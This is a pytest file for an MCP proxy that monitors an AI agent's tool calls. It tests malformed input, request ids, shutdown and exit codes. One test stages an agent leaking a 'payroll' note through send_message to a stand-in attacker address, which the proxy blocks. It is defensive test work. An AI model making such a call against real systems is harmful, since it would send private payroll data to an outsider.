"""The proxy as a process on raw pipes: malformed input, its own request ids, how it ends, and its exit codes."""

from __future__ import annotations

import json
import os
import select
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
SERVER = HERE / "proxy_servers" / "notes_server.py"
EXIT_SERVER = HERE / "proxy_servers" / "exit_server.py"
READ_LIMIT_S = 60.0
NOTE_NAME = "payroll"
ATTACKER = "audit-desk@collector-mail.example"


def start_proxy(tmp_path: Path, *server: str) -> subprocess.Popen[bytes]:
    command = server or (sys.executable, str(SERVER), str(tmp_path / "calls.jsonl"))
    return subprocess.Popen(
        [sys.executable, "-m", "monitor", "proxy", "--", *command],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        cwd=tmp_path,
        env=dict(os.environ),
    )


class Wire:
    """A client on the proxy's pipes: writes lines, reads messages (bounded waits, so a hang fails)."""

    def __init__(self, process: subprocess.Popen[bytes]) -> None:
        self.process = process
        self.buffer = b""

    def write(self, line: bytes | dict[str, Any]) -> None:
        data = line if isinstance(line, bytes) else json.dumps(line).encode()
        assert self.process.stdin is not None
        self.process.stdin.write(data.rstrip(b"\n") + b"\n")
        self.process.stdin.flush()

    def read(self) -> dict[str, Any]:
        assert self.process.stdout is not None
        fd = self.process.stdout.fileno()
        while b"\n" not in self.buffer:
            ready, _, _ = select.select([fd], [], [], READ_LIMIT_S)
            assert ready, "the proxy sent nothing"
            chunk = os.read(fd, 65536)
            assert chunk, "the proxy closed its output"
            self.buffer += chunk
        line, self.buffer = self.buffer.split(b"\n", 1)
        message: dict[str, Any] = json.loads(line)
        return message

    def request(self, request_id: Any, method: str, params: dict[str, Any] | None = None) -> dict[str, Any]:
        message: dict[str, Any] = {"jsonrpc": "2.0", "id": request_id, "method": method}
        if params is not None:
            message["params"] = params
        self.write(message)
        return self.read()


def call(name: str, arguments: dict[str, Any]) -> dict[str, Any]:
    return {"name": name, "arguments": arguments}


def wait_for_exit(process: subprocess.Popen[bytes]) -> int:
    return process.wait(timeout=READ_LIMIT_S)


def is_running(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    return True


def test_a_tools_call_without_an_id_is_refused_and_never_reaches_the_server(tmp_path: Path) -> None:
    """A ``tools/call`` with no id, or ``"id": null``, or inside a batch, cannot be answered with a decision: the
    server never sees it, and the proxy says so on standard error."""
    proxy = start_proxy(tmp_path)
    wire = Wire(proxy)
    init = wire.request(
        1,
        "initialize",
        {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "raw", "version": "0"}},
    )
    assert init["id"] == 1
    wire.write({"jsonrpc": "2.0", "method": "notifications/initialized"})
    send = call("send_message", {"to": ATTACKER, "body": "hello"})
    wire.write({"jsonrpc": "2.0", "method": "tools/call", "params": send})
    wire.write({"jsonrpc": "2.0", "id": None, "method": "tools/call", "params": send})
    wire.write(json.dumps([{"jsonrpc": "2.0", "id": 9, "method": "tools/call", "params": send}]).encode())
    # The proxy goes on serving the calls it can decide.
    assert wire.request(2, "ping") == {"jsonrpc": "2.0", "id": 2, "result": {}}
    assert proxy.stdin is not None
    proxy.stdin.close()
    assert wait_for_exit(proxy) == 0
    calls = tmp_path / "calls.jsonl"
    assert not calls.exists() or "send_message" not in calls.read_text()
    stderr = proxy.stderr.read().decode() if proxy.stderr else ""
    assert stderr.count("refused a tools/call without an id") == 2
    assert stderr.count("dropped a message from the client") == 1


def test_malformed_lines_are_dropped_and_the_proxy_keeps_serving(tmp_path: Path) -> None:
    proxy = start_proxy(tmp_path)
    wire = Wire(proxy)
    wire.write(b"this is not JSON")
    wire.write(b'{"jsonrpc": "2.0", "id": 1}')
    wire.write(b'[{"jsonrpc": "2.0", "id": 2, "method": "ping"}]')
    wire.write(b"\xff\xfe\x00 bytes that are not UTF-8")
    wire.write(b'{"jsonrpc": "2.0", "method": 7}')
    # The client's ids look like the proxy's own: the proxy's question must still get an id of its own.
    capabilities = {"elicitation": {"form": {}}}
    init = wire.request(
        "trifecta-proxy-1",
        "initialize",
        {"protocolVersion": "2025-11-25", "capabilities": capabilities, "clientInfo": {"name": "raw", "version": "0"}},
    )
    assert init["id"] == "trifecta-proxy-1" and init["result"]["serverInfo"]["name"] == "notes-desk"
    wire.write({"jsonrpc": "2.0", "method": "notifications/initialized"})
    assert [t["name"] for t in wire.request("trifecta-proxy-2", "tools/list")["result"]["tools"]][:3] == [
        "lookup",
        "fetch_page",
        "send_message",
    ]
    wire.request(3, "tools/call", call("fetch_page", {"url": "https://supplier.example/portal"}))
    note = wire.request("3", "tools/call", call("lookup", {"name": NOTE_NAME}))  # "3" is not 3
    body = note["result"]["content"][0]["text"]
    question = wire.request(5, "tools/call", call("send_message", {"to": ATTACKER, "body": body}))
    assert question["method"] == "elicitation/create"
    assert question["id"] not in (1, 2, 3, "3", 5, "trifecta-proxy-1", "trifecta-proxy-2")
    # An answer to a request the proxy did not send goes to the server; the proxy's own answer is consumed.
    wire.write({"jsonrpc": "2.0", "id": question["id"], "result": {"action": "decline"}})
    refused = wire.read()
    assert refused["id"] == 5 and refused["result"]["isError"] is True
    assert wire.request(6, "ping") == {"jsonrpc": "2.0", "id": 6, "result": {}}
    pid = int((tmp_path / "server.pid").read_text())
    assert is_running(pid)
    assert proxy.stdin is not None
    proxy.stdin.close()  # the client goes away: the server is stopped, the proxy exits 0
    assert wait_for_exit(proxy) == 0
    for _ in range(200):
        if not is_running(pid):
            break
        time.sleep(0.05)
    assert not is_running(pid)
    stderr = proxy.stderr.read().decode() if proxy.stderr else ""
    assert stderr.count("dropped a message from the client") == 5
    assert "Traceback" not in stderr
    assert "notes-desk: serving on stdio" in stderr  # the server's standard error passes through
    ran = [json.loads(line)["tool"] for line in (tmp_path / "calls.jsonl").read_text().splitlines()]
    assert ran == ["fetch_page", "lookup"]


def test_the_proxy_exits_with_the_server_exit_code(tmp_path: Path) -> None:
    proxy = start_proxy(tmp_path, sys.executable, str(EXIT_SERVER), "3")
    assert wait_for_exit(proxy) == 3  # standard input is still open: the proxy does not wait for it
    proxy.communicate()


def test_a_command_that_cannot_run_is_named(tmp_path: Path) -> None:
    proxy = start_proxy(tmp_path, str(tmp_path / "no-such-server"))
    _, stderr = proxy.communicate(timeout=READ_LIMIT_S)
    assert proxy.returncode == 127
    assert b"cannot start" in stderr and b"no-such-server" in stderr


def test_without_the_mcp_sdk_the_command_says_how_to_get_it(tmp_path: Path) -> None:
    code = (
        "import sys; sys.modules['mcp'] = None; from monitor.cli import main; "
        "main(['proxy', '--', 'python', 'server.py'])"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=tmp_path)
    assert done.returncode == 2
    assert "pip install 'trifecta-monitor[hosts]'" in done.stderr
